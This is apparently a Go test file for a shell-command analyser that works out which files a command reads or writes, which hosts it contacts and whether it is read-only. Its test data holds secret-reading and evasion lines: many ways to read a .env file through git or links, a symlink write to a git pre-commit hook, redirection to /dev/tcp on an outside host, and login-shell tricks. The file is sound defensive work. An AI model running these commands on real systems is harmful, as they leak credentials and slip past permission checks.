package shell_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestContentThatIsFoundOnlyAtRunTimeIsNamedByPatterns(t *testing.T) {
	const all, visible = project + "/**", project + "/[!.]**"
	src := []string{project + "/src/**"}
	met := []string{project + "/src/***"} // by their names, so that links are followed
	linked := slices.Concat(src, met)
	for line, want := range map[string][]string{
		"grep -rn x":                         {all},
		"grep -r x src":                      src,
		"grep -R x src":                      linked,
		"grep -d recurse x src":              src,
		"grep --dereference-recursive x src": linked,
		"grep x src":                         nil,
		"rg x":                               {visible},
		"rg x src":                           {project + "/src/[!.]**"},
		"rg -. x":                            {all},
		"rg --hidden x":                      {all},
		"rg -uu x":                           {all},
		"rg -g '*.go' x":                     {visible},
		"rg -g '!*.go' x":                    {visible},
		"rg -g '.env' x":                     {all},
		"rg -g '*' x":                        {all},
		"rg --files":                         nil,
		"ag x":                               {visible},
		"ag --hidden x":                      {all},
		"ag -g x":                            nil,
		"find src -exec cat {} +":            met,
		"find . -exec grep -l x {} \\;":      {project + "/***"},
		"find . -exec ls {} \\;":             {project + "/***"},
		"find . -name x":                     nil,
		"fd x -x cat":                        {visible},
		"fd -H x -x cat":                     {all},
		"tar -czf x.tgz src":                 src,
		"tar czf - src":                      src,
		"tar -cf x.tar -C src .":             src,
		"zip -r x.zip src":                   linked,
		"zip x.zip a":                        nil,
		"cp -r src dst":                      src,
		"cp -a src dst":                      src,
		"cp -rL src dst":                     linked,
		"zip -ry x.zip src":                  src,
		"tar -chf x.tar src":                 linked,
		"find src -print0 | xargs -0 -I{} cat {}": met,
		"find src lib -print0 | xargs -0 cat":     {project + "/src/***", project + "/lib/***"},
		"cp a b":                                  nil,
		"mv src dst":                              src,
		"ln a b":                                  {project + "/a/**"},
		"rsync -a src/ dst/":                      src,
		"scp -r src a.example:":                   linked,
		"diff -r src src":                         met,
		"ls -R":                                   nil,
		"tree":                                    nil,
		"du -a":                                   nil,
		"stat src":                                nil,
		"git grep x":                              nil,
		"git grep --untracked x":                  {all},
		"git diff --no-index src src":             src,
		"git log -p -- '*'":                       {all},
		"git diff -- '*.go'":                      nil,
		"cat src/*.go":                            {project + "/src/*.go"},
		"find src -print0 | xargs -0 cat":         met,
		"find src -print0 | sort -z | xargs -0 cat": met,
	} {
		if d := cmp.Diff(want, analyse(line).Follows); d != "" {
			t.Errorf("%s (-want +got):\n%s", line, d)
		}
	}
}

func TestASecretIsReadUnderAnyNameThatGitHasForIt(t *testing.T) {
	env := project + "/.env"
	for _, line := range []string{
		"git show HEAD:.env", "git show HEAD~1:.env", "git show :.env", "git show :0:.env", "git show HEAD:./.env", "git cat-file -p HEAD:.env", "git cat-file blob main:.env",
		"git blame .env", "git blame -- .env", "git annotate .env", "git blame HEAD~3 -- .env", "git log -p -- .env", "git log -p .env", "git log -L1,5:.env", "git diff -- .env", "git diff HEAD .env",
		"git show HEAD -- .env", "git diff main:.env HEAD:x", "git grep KEY -- .env", "git grep KEY HEAD -- .env", "git diff -- ':(top).env'", "git diff -- :/.env", "cd src && git show HEAD:.env",
		"mv .env env.txt", "ln .env env.txt", "ln -s .env x && cat x", "cp .env x",
	} {
		if a := analyse(line); !slices.Contains(a.Reads, env) {
			t.Errorf("%s reads only %q", line, a.Reads)
		}
	}
	for _, line := range []string{"git show \"HEAD:$x\"", "git show \"a$x\"", "git blame \"a$x\"", "git log -p -- \"a$x\""} {
		if a := analyse(line); a.ReadOnly {
			t.Errorf("%s is proved", line)
		}
	}
	for _, line := range []string{"git show HEAD~2", "git diff main..HEAD", "git log -p HEAD^", "git log -- .env", "git diff -- ':!.env'"} {
		if a := analyse(line); slices.Contains(a.Reads, env) || len(a.Reads) != 1 {
			t.Errorf("%s reads %q", line, a.Reads)
		}
	}
}

func TestALinkIsWhatItLeadsTo(t *testing.T) {
	for line, want := range map[string]string{
		"ln -s .git/hooks/pre-commit x && cat y > x": project + "/.git/hooks/pre-commit",
		"ln -s hooks/pre-commit .git/x":              project + "/.git/hooks/pre-commit",
	} {
		if a := analyse(line); !slices.Contains(a.Writes, want) {
			t.Errorf("%s writes only %q", line, a.Writes)
		}
	}
}

func TestWhatACommandDoesBesidesIsListedAsARedirection(t *testing.T) {
	for line, want := range map[string]string{
		"make > /dev/tcp/a.example/80":      "/dev/tcp/a.example/80",
		"make > \"/dev/udp/a.example/$x\"":  `"/dev/udp/a.example/$x"`,
		"/usr/bin/time -o log make":         project + "/log",
		"/usr/bin/time --output=log make":   project + "/log",
		"/usr/bin/time -v -a -o log make":   project + "/log",
		"script -qc make log":               project + "/log",
		"flock lock make":                   project + "/lock",
		"make > out 2> /dev/null":           project + "/out",
		"make > /dev/null 2>&1":             "",
		"/usr/bin/time -o /dev/stderr make": "",
	} {
		if got := strings.Join(analyse(line).Commands[0].Redirects, " "); got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

func TestOutputByNameIsAFileIfTheLineMakesItOne(t *testing.T) {
	for _, line := range []string{
		"echo x > /dev/stderr", "echo x > /dev/stdout", "ls | tee /dev/stderr", "ls 2>/dev/null | tee /dev/stderr", "ls 2>&1 | tee /dev/stderr", "sed -n 'w /dev/stdout' a", "sort -o /dev/null a", "ls | tee /dev/null",
		"cat < /dev/stdin", "cat /dev/stdin", "cat /dev/fd/3", "ls > /dev/null", "cp a /dev/null", "dd if=a of=/dev/null", "tee >(wc -l)", "cat <<< x | tee /dev/stderr", "find . -fprint /dev/stdout",
	} {
		if a := analyse(line); !a.ReadOnly {
			t.Errorf("%s is not proved: %s", line, a.Why)
		}
	}
	for _, line := range []string{
		"tee /dev/stdin < a", "tee /dev/fd/0 < a", "echo x 3< a > /dev/fd/3", "sort -o /dev/stdin < a", "sed -n 'w /dev/fd/0' < a", "find . -fprint /dev/stdin < a", "echo x 1< a 2> /dev/stdout", "ls 2< a > /dev/stderr",
		"cat b < a 1<> /dev/stdin", "exec 3< a; echo x > /dev/fd/3", "{ tee /dev/stderr; } 2< a", "while :; do ls > /dev/stdout; eval 'exec < a >&0'; done", "touch /dev/stdin < a", "rm /dev/null", "chmod 600 /dev/null", "mv a /dev/null", "sed -i s/a/b/ /dev/null", "sed -i s/a/b/ /dev/stdin",
		"cat < a | tee /dev/stderr", "bash -c 'tee /dev/stdout' > /dev/null < a", "shred /dev/null", "tee /dev/./stdin", "cd /dev && tee stdin < a",
	} {
		if a := analyse(line); a.ReadOnly {
			t.Errorf("%s is proved", line)
		}
	}
}

func TestALoginShellIsNotProved(t *testing.T) {
	for _, line := range []string{"bash -lc ls", "bash --login -c ls", "bash +l -c ls", "bash -cls -c ls", "sh -l -c ls", "exec -a -bash bash -c ls", "exec -l bash -c ls", "sh -lc ls"} {
		if a := analyse(line); a.ReadOnly {
			t.Errorf("%s is proved", line)
		}
	}
}

func TestAHostIsKnownFromTheBeginningOfAURL(t *testing.T) {
	for line, want := range map[string]string{
		`curl "https://a.example/q=$x"`: "a.example", `curl "https://a.example$x"`: "*", `curl "$x"`: "*", `curl "https://$x/"`: "*", "curl https://a.example/{a,b}": "a.example", `ssh "$x"`: "*",
	} {
		if got := strings.Join(analyse(line).Hosts, " "); got != want {
			t.Errorf("%s connects to %q, want %q", line, got, want)
		}
	}
}
